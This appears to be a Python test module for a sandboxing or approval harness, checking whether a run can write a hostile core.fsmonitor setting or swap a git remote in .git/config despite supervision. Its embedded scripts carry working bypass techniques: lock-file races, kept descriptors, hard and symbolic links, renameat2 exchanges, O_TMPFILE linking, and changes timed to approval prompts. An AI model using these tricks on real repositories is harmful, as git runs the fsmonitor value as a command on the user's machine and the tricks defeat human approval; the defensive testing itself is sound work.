"""Settings of a git repository: a run may change harmless keys of them, and wants others."""
from __future__ import annotations

import dataclasses

import harness
from approvers import Asked, records
from cases.case import RACE_ROUNDS, Attack, Outcome, Scene, check
from cases.worlds.later import CODE, text_of

USERS = ('[core]\n\tfilemode = true\n\teditor = vi\n[remote "origin"]\n\turl = https://example.org/x.git\n'
         '\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n')
HARMLESS = "[user]\n\tname = somebody\n"
PROGRAM = f"[core]\n\tfsmonitor = {CODE}\n"

# argv: WAY FILE HARMLESS WANTED ROUNDS. What is wanted stands in the whole new text; a way that needs it gives a harmless one first.
SCRIPT = r"""
import ctypes, mmap, os, sys, threading
way, file, harmless, wanted, rounds = sys.argv[1:]
lock, beside = file + ".lock", file + ".callgate"
pad = lambda text: (text + "#" * 4096)[:4095] + "\n"

def put(text, name=lock):
    with open(name, "w") as out: out.write(text)

def instead(text, name):
    made = str(threading.get_ident()); put(text, made); os.rename(made, name)

def race(name, begin):
    # A sibling puts what is wanted at `name` while the main thread renames.
    ended = False
    def swap():
        while not ended:
            try: instead(wanted, name)
            except OSError: pass
    thread = threading.Thread(target=swap, daemon=True); thread.start()
    for _ in range(int(rounds)):
        try: os.rename(begin() or lock, file)
        except OSError: pass
        if open(file).read() == wanted: break
    ended = True; thread.join()

def plain():
    put(wanted); os.rename(lock, file)
def kept():
    put(harmless); fd = os.open(lock, os.O_WRONLY)
    os.rename(lock, file); os.pwrite(fd, wanted.encode(), 0)
def mapped():
    put(pad(harmless)); fd = os.open(lock, os.O_RDWR); seen = mmap.mmap(fd, 4096); os.close(fd)
    os.rename(lock, file); seen[:] = pad(wanted).encode()
def linked():
    put(harmless); os.link(lock, "other")
    os.rename(lock, file); put(wanted, "other")
def raced():
    race(lock, lambda: instead(harmless, lock))
def before_its_name():
    # The new file is opened under the name that it has at first.
    found, ended = [], False
    def look():
        while not ended:
            try: found.append(os.open(beside, os.O_WRONLY))
            except OSError: pass
    thread = threading.Thread(target=look, daemon=True); thread.start()
    for _ in range(int(rounds)):
        try: put(harmless, beside); own = True
        except OSError: own = False
        if own: found.append(os.open(beside, os.O_WRONLY)); os.rename(beside, file)
        else: put(harmless); os.rename(lock, file)
        for fd in found: os.ftruncate(fd, 0); os.pwrite(fd, wanted.encode(), 0)
        if open(file).read() == wanted: break
    ended = True; thread.join()
def another_instead():
    # Another file takes the first name of the new one. Where that is refused, the new one is callgate's.
    def begin():
        try: instead(harmless, beside); return beside
        except OSError: put(harmless)
    race(beside, begin)
def symbolic():
    put(wanted, "evil"); os.symlink(os.path.abspath("evil"), lock); os.rename(lock, file)
def exchanged():
    put(wanted)
    if ctypes.CDLL(None).renameat2(-100, lock.encode(), -100, file.encode(), 2): sys.exit(1)
def linked_instead():
    put(wanted); os.unlink(file); os.link(lock, file)
def made_anew():
    os.unlink(file); put(wanted); os.rename(lock, file)
def in_its_folder():
    folder = os.path.dirname(file); os.rename(folder, "away"); os.mkdir(folder); plain()
def written():
    put(wanted, file)
def created():
    # The repository is new: its settings are made by opening them.
    fd = os.open(file, os.O_CREAT | os.O_WRONLY | os.O_TRUNC)
    os.write(fd, wanted.encode())
def created_reopened():
    fd = os.open(file, os.O_CREAT | os.O_RDWR | os.O_EXCL)
    open(f"/proc/self/fd/{fd}", "w").write(wanted)
def created_linked():
    os.close(os.open(file, os.O_CREAT | os.O_WRONLY))
    os.link(file, "other"); open("other", "w").write(wanted)
def created_moved():
    os.close(os.open(file, os.O_CREAT | os.O_WRONLY))
    os.rename(file, "other"); open("other", "w").write(wanted); os.rename("other", file)
def sent():
    # A file without a name is linked there.
    fd = os.open(".", os.O_TMPFILE | os.O_RDWR); os.write(fd, wanted.encode())
    os.unlink(file)
    if ctypes.CDLL(None).linkat(-100, f"/proc/self/fd/{fd}".encode(), -100, file.encode(), 0x400): sys.exit(1)

globals()[way]()
"""


@dataclasses.dataclass(frozen=True)
class Settings(Attack):
    """A script wants the settings to hold `wanted` in place of, or `added` after, what the user has there."""

    way: str = "plain"
    path: str = ".git/config"
    added: str = PROGRAM
    wanted: str = ""
    absent: bool = False  # the repository is made by the run

    def play(self, scene: Scene, way: str, wanted: str, supervised: bool) -> tuple[str, harness.Result]:
        box = scene.box
        harness.remove_tree(box.tree)
        box.directory(box.tree)
        above = box.tree
        for part in self.path.split("/")[:-1]:
            above = box.directory(above / part)
        if not self.absent:
            box.file(box.tree / self.path, USERS.encode())
        # It ends with the first round that is won.
        rounds = 10 * RACE_ROUNDS if not supervised else RACE_ROUNDS
        line = ["/usr/bin/python3", "-c", SCRIPT, way, self.path, self.users() + HARMLESS, wanted, str(rounds)]
        result = scene.supervised(line, None, ["--ask", "never"]) if supervised else scene.bare(line)
        return text_of(box.tree / self.path), result

    def users(self) -> str:
        return "" if self.absent else USERS

    def evil(self) -> str:
        return self.wanted or self.users() + self.added

    def control(self, scene: Scene) -> Outcome:
        text, result = self.play(scene, self.way, self.evil(), False)
        return check({"the control did not change the settings": text.rstrip("#\n") != self.evil().replace("\r", "").rstrip("\n")}, "changed", result.describe())

    def held(self, scene: Scene) -> Outcome:
        text, result = self.play(scene, self.way, self.evil(), True)
        good = self.users() + HARMLESS
        harmless = text in (self.users(), good, (good + "#" * 4096)[:4095] + "\n")
        seen = [one for one in result.decisions() if one["callgate"]["verdict"] == "deny"]
        return check({"the settings are others": not harmless, "nothing is on record": not seen}, f"exit {result.code}", result.describe())

    def twin(self, scene: Scene) -> Outcome:
        good = self.users() + HARMLESS
        text, result = self.play(scene, "plain", good, True)
        filtered = [one for one in result.decisions() if one["callgate"]["mechanism"] == "filtered"]
        return check({"a harmless change was refused": text != good or result.code != 0, "it is not on record": len(filtered) != 1},
                     "changed", result.describe())


def leading_to(host: str) -> str:
    return USERS.replace("example.org", f"{host}.example")


# argv: WAY FILE FIRST SECOND. A person is asked about the first text, and the second is wanted. A line on stdin: the question is seen.
ASKED_SCRIPT = r"""
import os, sys, threading
way, file, first, second = sys.argv[1:]
lock = file + ".lock"

def put(text, name=lock):
    with open(name, "w") as out: out.write(text)
def move():
    try: os.rename(lock, file)
    except OSError: pass
def over(fd):
    os.ftruncate(fd, 0); os.pwrite(fd, second.encode(), 0)
def while_asked(act):
    def seen():
        sys.stdin.readline(); act(); print("done", flush=True)
    thread = threading.Thread(target=seen); thread.start(); move(); thread.join()

def plain():
    put(second); move()
def deny():
    plain()
def swapped():
    put(first); fd = os.open(lock, os.O_WRONLY); while_asked(lambda: over(fd))
def replaced():
    def act(): os.unlink(lock); put(second)
    put(first); while_asked(act)
def removed():
    put(first); while_asked(lambda: os.unlink(lock))
def kept():
    put(first); fd = os.open(lock, os.O_WRONLY); move(); over(fd)
def granted():
    put(first); move(); put(second); move()

globals()[way]()
"""


@dataclasses.dataclass(frozen=True)
class AskedSettings(Attack):
    """A change of a remote is asked about; the run wants another one than the person allows."""

    way: str

    def line(self, box: harness.Box, way: str, first: str, second: str) -> list[str]:
        harness.remove_tree(box.tree)
        box.directory(box.directory(box.tree) / ".git")
        box.file(box.tree / ".git/config", USERS.encode())
        return ["/usr/bin/python3", "-c", ASKED_SCRIPT, way, ".git/config", first, second]

    def asked(self, scene: Scene, way: str, first: str, second: str, *answers: tuple[str, str]) -> tuple[str, list[str], harness.Result]:
        box = scene.box
        run = Asked(box, self.line(box, way, first, second), None, tuple(scene.options))
        shown = []
        for answer in answers:
            ask = run.ask()
            shown += ask.get("changes", [])
            if way in ("swapped", "replaced", "removed"):
                run.process.stdin.write(b"\n")
                run.process.stdin.flush()
                assert run.process.stdout.readline() == b"done\n"
            run.decide(ask, *answer)
        result = run.end()
        return text_of(box.tree / ".git/config"), shown, result

    def control(self, scene: Scene) -> Outcome:
        # The file that is put there instead comes too late where nothing waits.
        way = "plain" if self.way in ("replaced", "removed") else self.way
        result = scene.bare(self.line(scene.box, way, leading_to("one"), leading_to("evil")))
        return check({"the control did not change the settings": text_of(scene.box.tree / ".git/config") != leading_to("evil")},
                     "changed", result.describe())

    def held(self, scene: Scene) -> Outcome:
        answers = {"deny": [("deny",)], "granted": [("allow", "object"), ("deny",)]}.get(self.way, [("allow",)])
        text, shown, result = self.asked(scene, self.way, leading_to("one"), leading_to("evil"), *answers)
        agreed = leading_to("one") if self.way in ("kept", "granted") else USERS
        return check({"the settings are not those that were agreed to": text != agreed,
                      "the question did not show what was wanted": self.way != "deny" and "evil" in "".join(shown[:1]),
                      "it is not on record": len(records(result, "prompt.answered")) != len(answers)}, f"exit {result.code}", result.describe())

    def twin(self, scene: Scene) -> Outcome:
        text, shown, result = self.asked(scene, "plain", "", leading_to("one"), ("allow",))
        filtered = [one for one in result.decisions(verdict="allow") if one["callgate"]["mechanism"] == "filtered"]
        return check({"an allowed change was not made": text != leading_to("one"), "it is not on record": len(filtered) != 1,
                      "the values were not shown": shown != ['remote.origin.url: "https://example.org/x.git" -> "https://one.example/x.git"']},
                     "changed", result.describe())
